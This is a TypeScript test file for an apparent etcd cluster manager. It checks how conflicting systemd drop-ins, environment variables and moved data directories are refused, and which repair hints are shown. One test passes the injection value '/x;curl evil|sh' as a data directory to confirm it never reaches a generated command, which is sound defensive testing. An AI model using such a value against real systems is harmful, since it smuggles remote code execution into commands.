import { expect, test } from 'vitest'
import { UNIT_MARK } from '../../../etcd/unit-file.ts'
import { type UnitState, PATHS } from '../../../host/state.ts'
import { parseEnvironmentFile } from '../../../etcd/environment-file.ts'
import { clusterStanding, memberStanding, RUNNING } from '../facts/standing.fixture.ts'
import { dataElsewhere } from './foreign.ts'
import { next } from './next.ts'
import { planPower } from '../../../verbs/power/decide.ts'
import { bareWorld, reasonsOf, settledWorld, testCluster, testIntent, withMember } from './testing.ts'

const cluster = testCluster()
const intent = testIntent(cluster)
const settled = settledWorld(cluster)
const DROP_IN = '/etc/systemd/system/etcd.service.d/x.conf'

const around = (body: string, files = {}): Partial<UnitState> => ({
  surroundings: {
    dropIns: [{ path: DROP_IN, text: `[Service]\n${body}\n` }],
    files,
    ambient: {},
    ambientFiles: {},
  },
})
const withUnit = (world: typeof settled, changes: Partial<UnitState>) =>
  withMember(world, 'etcd01', ({ unit }) => ({ unit: { ...unit, ...changes } }))
const FILE = 'EnvironmentFile=/etc/default/etcd'
const elsewhere = { '/etc/default/etcd': { ETCD_DATA_DIR: '/opt/etcd/default' } }

test.each([
  ['bare machines', bareWorld(cluster)],
  ['a cluster that stands', settled],
])('%s: a drop-in that moves the data is refused, with what helps', (_what, world) => {
  const [reason, ...others] = reasonsOf(next(intent, withUnit(world, around(FILE, elsewhere))))
  expect(others).toEqual([])
  expect(reason?.host).toBe('etcd01')
  expect(reason?.message).toContain(`${DROP_IN} sets ETCD_DATA_DIR from /etc/default/etcd`)
  expect(reason?.hint).toContain(`mv ${DROP_IN} ${DROP_IN}.off && systemctl daemon-reload`)
})

test('a configuration file in addition to the options is refused: etcd would read nothing else', () => {
  const world = withUnit(settled, around('Environment=ETCD_CONFIG_FILE=/etc/etcd/etcd.conf.yml'))
  expect(reasonsOf(next(intent, world))[0]?.message).toContain('ETCD_CONFIG_FILE')
})

test('a variable that etcd does not read causes no restart, which would not remove it', () => {
  const given = around('Environment=ETCD_OPTS=x ETCD_DATA_DIR=/elsewhere')
  const world = withMember(withUnit(settled, given), 'etcd01', ({ unit }) => ({
    unit: { ...unit, environment: { ...unit.environment, ETCD_OPTS: 'x' } },
  }))
  expect(next(intent, world)).toEqual({ kind: 'done' })
  const taken = withMember(world, 'etcd01', ({ unit }) => ({ unit: { ...unit, surroundings: undefined } }))
  expect(next(intent, taken)).toEqual({ kind: 'done' })
})

test("what a restore sets until it is finished is quorate's own", () => {
  const path = '/run/systemd/system/etcd.service.d/quorate-first-start.conf'
  const text = '[Service]\nUnsetEnvironment=ETCD_EXPERIMENTAL_INITIAL_CORRUPT_CHECK\n'
  const surroundings = { dropIns: [{ path, text }], files: {}, ambient: {}, ambientFiles: {} }
  expect(next(intent, withUnit(settled, { surroundings }))).toEqual({ kind: 'done' })
})

test('a drop-in of a package is masked, and not moved', () => {
  const path = '/usr/lib/systemd/system/service.d/x.conf'
  const surroundings = {
    dropIns: [{ path, text: '[Service]\nUser=root' }],
    files: {},
    ambient: {},
    ambientFiles: {},
  }
  const [reason] = reasonsOf(next(intent, withUnit(settled, { surroundings })))
  expect(reason?.hint).toContain('ln -s /dev/null /etc/systemd/system/etcd.service.d/x.conf')
})

test('what systemd gives to every service is taken from where it stands', () => {
  const ambient = { ETCD_ELECTION_TIMEOUT: '5000' }
  const hint = (ambientFiles: Record<string, string>) =>
    reasonsOf(
      next(intent, withUnit(settled, { surroundings: { dropIns: [], files: {}, ambient, ambientFiles } })),
    )[0]?.hint
  expect(hint({})).toContain('systemctl unset-environment ETCD_ELECTION_TIMEOUT')
  expect(hint({ ETCD_ELECTION_TIMEOUT: '/etc/systemd/system.conf' })).toContain('in /etc/systemd/system.conf')
})

test("a unit file with precedence over quorate's is refused", () => {
  const path = '/etc/systemd/system.control/etcd.service'
  const [reason] = reasonsOf(next(intent, withUnit(settled, { path })))
  expect(reason?.hint).toContain(`mv ${path} ${path}.off`)
})

test('data that the process has elsewhere is not lost', () => {
  const moved = withMember(settled, 'etcd01', ({ unit }) => ({
    dataPresent: false,
    unit: { ...unit, environment: { ...unit.environment, ETCD_DATA_DIR: '/opt/etcd/default/' } },
  }))
  const [reason, ...others] = reasonsOf(next(intent, moved))
  expect(others).toEqual([])
  expect(reason?.message).toContain('/opt/etcd/default')
  expect(reason?.hint).toMatch(
    /quorate stop etcd01; .*mv -T \/opt\/etcd\/default \/opt\/etcd\/data; .*quorate start etcd01/,
  )
  expect(reason?.hint).not.toContain('repair')
})

test('what a process says of itself becomes no command', () => {
  const data = '/x;curl evil|sh'
  const odd = withMember(settled, 'etcd01', ({ unit }) => ({
    unit: { ...unit, environment: { ...unit.environment, ETCD_DATA_DIR: data } },
  }))
  const [reason] = reasonsOf(next(intent, odd))
  expect(reason?.id).toBe('data-is-elsewhere')
  expect(reason?.hint).not.toContain('evil')
})

test("the process's data directory only counts for a process of quorate's unit, and against both files", () => {
  const state = settled.hosts['etcd01']?.member
  if (state === undefined) throw new TypeError('no member')
  const at = (environment: Record<string, string>) =>
    dataElsewhere(cluster, { ...state, unit: { ...state.unit, environment } })
  expect(at({ ETCD_DATA_DIR: '/old', [UNIT_MARK]: 'x' })).toEqual({ data: '/old', wal: '/old/member/wal' })
  expect(at({ ETCD_DATA_DIR: '/old' })).toBeUndefined()
  const options = parseEnvironmentFile(state.contents[PATHS.environment] ?? '')
  expect(at({ ...options, [UNIT_MARK]: 'x' })).toBeUndefined()
  const other = testCluster({}, { dataDirectory: '/srv/etcd/data' })
  // The file was changed, and no foreign setting is effective: that has another message.
  expect(
    dataElsewhere(other, {
      ...state,
      unit: { ...state.unit, environment: { ...options, [UNIT_MARK]: 'x' } },
    }),
  ).toBeUndefined()
})

test('masked: never started, but stopped', () => {
  const unit = { ...RUNNING, masked: true }
  const standing = clusterStanding([memberStanding(1, { unit }), memberStanding(2), memberStanding(3)])
  const power = (verb: 'restart' | 'stop') =>
    planPower({ cluster, verb, hosts: ['etcd01'], force: false }, standing)
  expect(reasonsOf(next(intent, withUnit(settled, { masked: true })))[0]?.hint).toContain('systemctl unmask')
  expect(power('restart').blocked).toHaveLength(1)
  expect(power('stop').blocked).toEqual([])
})

test('of an adopted cluster that was not applied yet, drop-ins are its own until apply', () => {
  const unit = { ...RUNNING, ...around('User=root') }
  const restart = (ownUnit: boolean) => {
    const members = [memberStanding(1, { unit, ownUnit }), memberStanding(2), memberStanding(3)]
    return planPower({ cluster, verb: 'restart', hosts: ['etcd01'], force: false }, clusterStanding(members))
  }
  expect(restart(false).blocked).toEqual([])
  expect(restart(true).blocked).toHaveLength(1)
})
